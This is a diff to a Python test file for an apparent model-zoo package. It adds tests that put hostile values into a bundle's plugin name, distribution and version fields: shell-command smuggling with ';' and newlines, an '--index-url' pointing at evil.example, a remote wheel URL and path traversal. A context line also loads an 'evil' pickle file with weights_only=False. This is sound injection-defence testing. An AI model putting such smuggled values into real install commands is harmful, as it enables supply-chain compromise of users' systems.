@@ -12,7 +12,9 @@ import torch
 
 from zoo.bundle import copied_weights, load_model, write_card, write_weights
 from zoo.errors import BundleError
+from zoo.provenance import changes
 from zoo.registry import open_registry
+from zoo.reports.model_card import _plugin
 from zoo.runner.build import build_model
 
 Change = Callable[[dict[str, Any]], object]
@@ -77,3 +79,43 @@ def test_a_bundle_whose_parameters_name_a_file(tmp_path: Path, params: Callable[
     assert not owned.exists()
     torch.load(evil, weights_only=False)
     assert owned.exists(), "the attack works on a loader that trusts it"
+
+
+# -- words that would stand in a command ----------------------------------------------------------------
+
+COMMANDS = {
+    "a second command": {"distribution": "zoo-acme; touch x #"},
+    "a second line": {"distribution": "zoo-acme\ntouch x"},
+    "an option": {"distribution": "--index-url=https://evil.example zoo-acme"},
+    "an address": {"distribution": "zoo-acme @ https://evil.example/zoo_acme.whl"},
+    "a path": {"distribution": "../zoo-acme"},
+    "in the version": {"distribution": "zoo-acme", "version": "1.0; touch x #"},
+    "an option in the version": {"distribution": "zoo-acme", "version": "1.0 --index-url=https://evil.example"},
+    "in the plugin's name": {"id": "acme; touch x #/net", "distribution": None},
+    "no text": {"distribution": ["zoo-acme"]},
+}
+
+
+@pytest.mark.parametrize("said", COMMANDS.values(), ids=COMMANDS)
+def test_no_command_is_made_of_what_is_no_packages_name(tmp_path: Path, said: dict[str, Any]):
+    bundle = changed(
+        made_bundle(tmp_path / "model", "simple_rnn"),
+        lambda card: card["architecture"].update({"id": "acme/net", "version": None, **said}),
+    )
+    with pytest.raises(BundleError) as caught:
+        load_model(bundle, REGISTRY)
+    assert "zoo plugins install" not in str(caught.value)
+    assert "\n" not in str(caught.value)
+
+
+def test_nor_of_another_version_of_one_that_is_here(tmp_path: Path):
+    entry = REGISTRY.find("architecture", "simple_rnn")
+    told = changes({"architecture": {**entry.provenance(), "version": "0.0.1; touch x #"}}, REGISTRY)
+    assert len(told) == 1
+    assert "zoo plugins install" not in told[0]
+
+
+@pytest.mark.parametrize("said", [{"distribution": "zoo-acme; touch x #"}, {"version": "1.0; touch x #"}])
+def test_nor_in_the_readme_of_a_shared_model(said: dict[str, str]):
+    card = {"architecture": {"id": "acme/net", "distribution": "zoo-acme", "version": "1.0", **said}}
+    assert list(_plugin(card)) == []
